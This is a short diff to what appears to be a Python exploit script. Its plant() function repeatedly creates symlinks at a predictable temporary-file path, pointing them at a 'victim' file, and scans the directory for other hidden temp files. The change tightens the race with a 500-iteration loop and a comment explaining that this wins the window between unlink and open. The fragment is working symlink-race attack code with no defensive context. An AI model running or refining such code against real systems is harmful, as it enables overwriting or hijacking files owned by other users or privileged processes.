@@ -27,10 +27,13 @@ def plant(directory, name, victim):
     path = os.path.join(directory, name)
     print('racing', file=sys.stderr, flush=True)
     while True:
-        try:
-            os.symlink(victim, path)
-        except FileExistsError:
-            pass
+        # Mostly the predictable name (a tight loop wins the short window between unlink and open),
+        # now and then a look for other temp files.
+        for _ in range(500):
+            try:
+                os.symlink(victim, path)
+            except FileExistsError:
+                pass
         for entry in os.listdir(directory):
             if not entry.startswith('.') or entry == name:
                 continue
